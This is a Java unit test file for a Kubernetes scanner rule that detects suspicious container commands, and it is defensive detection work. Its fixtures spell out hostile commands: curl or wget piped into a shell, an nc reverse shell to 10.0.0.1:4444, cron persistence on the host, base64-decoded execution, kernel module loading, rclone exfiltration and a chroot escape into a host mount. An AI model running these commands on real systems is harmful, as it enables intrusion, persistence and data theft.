package io.jobguard.rules.builtin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.jobguard.model.Workload;
import io.jobguard.model.WorkloadFactory;
import io.jobguard.rules.Evidence;
import io.jobguard.rules.Profile;
import io.jobguard.rules.RuleContext;
import io.jobguard.rules.Severity;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

class SuspiciousCommandRuleTest {
  private final SuspiciousCommandRule rule = new SuspiciousCommandRule();

  @Test
  void oneFindingPerContainerAndPatternAtTheFirstElementThatShowsIt() {
    Workload pod =
        pod(
            container("a", List.of("sh", "-c"), List.of("echo hi", "curl x | sh; wget y | bash")),
            container("b", List.of("bash", "-c", "curl -s http://x/i | bash"), List.of()));

    List<Evidence> found = rule.evaluate(pod, RuleContext.defaults());

    assertThat(found)
        .extracting(Evidence::container, Evidence::field, Evidence::pattern)
        .containsExactly(
            tuple("a", "spec.containers[0].args[1]", "download-and-execute"),
            tuple("b", "spec.containers[1].command[2]", "download-and-execute"));
    assertThat(found.get(0).severity()).isEqualTo(Severity.CRITICAL);
    assertThat(found.get(0).value()).isEqualTo("curl x | sh; wget y | bash");
    assertThat(found.get(0).message())
        .contains(
            "Container 'a'", "downloads code and runs it", "download-and-execute", "curl x | sh");
  }

  @Test
  void argvSplitOverSeveralElementsIsReadAsOneCommandLine() {
    Workload pod = pod(container("c", List.of("nc"), List.of("-e", "/bin/sh", "10.0.0.1", "4444")));

    assertThat(rule.evaluate(pod, RuleContext.defaults()))
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.pattern()).isEqualTo("reverse-shell");
              assertThat(e.field()).isEqualTo("spec.containers[0].command[0]");
            });
  }

  @Test
  void theScriptOfShDashCStartsANewStatement() {
    Workload pod =
        pod(container("c", List.of("/bin/sh", "-ec", "cp /tmp/x /host/etc/cron.d/x"), List.of()));

    assertThat(rule.evaluate(pod, RuleContext.defaults()))
        .extracting(Evidence::pattern, Evidence::field)
        .containsExactly(tuple("cron-persistence", "spec.containers[0].command[2]"));
  }

  @Test
  void envValuesAreAnalysedAndNamedByTheirIndex() {
    Container c =
        new ContainerBuilder(container("c", List.of("sh", "-c", "eval \"$X\""), List.of()))
            .addNewEnv()
            .withName("A")
            .withValue("plain")
            .endEnv()
            .addNewEnv()
            .withName("X")
            .withValue("echo Y2F0Cg== | base64 --decode | sh")
            .endEnv()
            .build();

    assertThat(rule.evaluate(pod(c), RuleContext.defaults()))
        .extracting(Evidence::pattern, Evidence::field)
        .containsExactly(tuple("encoded-execute", "spec.containers[0].env[1].value"));
  }

  @Test
  void longValuesAreTruncatedWithAMarker() {
    String script = "echo start\n".repeat(100) + "insmod /tmp/x.ko\n";
    Evidence e =
        rule.evaluate(
                pod(container("c", List.of("sh", "-c", script), List.of())), RuleContext.defaults())
            .get(0);

    assertThat(e.value()).hasSize(256).endsWith("…").startsWith("echo start");
    assertThat(e.message()).contains("insmod");
  }

  @Test
  void policyPatternsReportTheirNameAtHighSeverity() {
    RuleContext context =
        new RuleContext(
            Profile.BASELINE,
            List.of(),
            List.of(),
            List.of(new RuleContext.NamedPattern("exfil-tool", Pattern.compile("rclone\\s+copy"))));
    Workload pod = pod(container("c", List.of("rclone", "copy", "/data", "remote:"), List.of()));

    assertThat(rule.evaluate(pod, context))
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.pattern()).isEqualTo("exfil-tool");
              assertThat(e.severity()).isEqualTo(Severity.HIGH);
              assertThat(e.field()).isEqualTo("spec.containers[0].command[0]");
            });
    assertThat(rule.evaluate(pod, RuleContext.defaults())).isEmpty();
  }

  @Test
  void chrootIntoTheContainersOwnHostPathMountIsHostNamespaceEntry() {
    Container c =
        new ContainerBuilder(container("c", List.of("chroot", "/node-fs/", "sh"), List.of()))
            .addNewVolumeMount()
            .withName("root")
            .withMountPath("/node-fs")
            .endVolumeMount()
            .build();
    Workload mounted =
        WorkloadFactory.from(
                new PodBuilder()
                    .withNewMetadata()
                    .withName("p")
                    .endMetadata()
                    .withNewSpec()
                    .withContainers(c)
                    .addNewVolume()
                    .withName("root")
                    .withNewHostPath()
                    .withPath("/")
                    .endHostPath()
                    .endVolume()
                    .endSpec()
                    .build())
            .orElseThrow();

    assertThat(rule.evaluate(mounted, RuleContext.defaults()))
        .extracting(Evidence::pattern, Evidence::severity)
        .containsExactly(tuple("host-namespace-entry", Severity.CRITICAL));
    assertThat(
            rule.evaluate(
                pod(container("c", List.of("chroot", "/node-fs/", "sh"), List.of())),
                RuleContext.defaults()))
        .as("the same chroot without a host mount there is a build step")
        .isEmpty();
  }

  @Test
  void containersWithoutCommandsAreQuiet() {
    assertThat(rule.evaluate(pod(container("c", null, null)), RuleContext.defaults())).isEmpty();
  }

  static Container container(String name, List<String> command, List<String> args) {
    return new ContainerBuilder()
        .withName(name)
        .withImage("alpine:3.20")
        .withCommand(command)
        .withArgs(args)
        .build();
  }

  static Workload pod(Container... containers) {
    return WorkloadFactory.from(
            new PodBuilder()
                .withNewMetadata()
                .withName("p")
                .withNamespace("default")
                .endMetadata()
                .withNewSpec()
                .withContainers(containers)
                .endSpec()
                .build())
        .orElseThrow();
  }
}
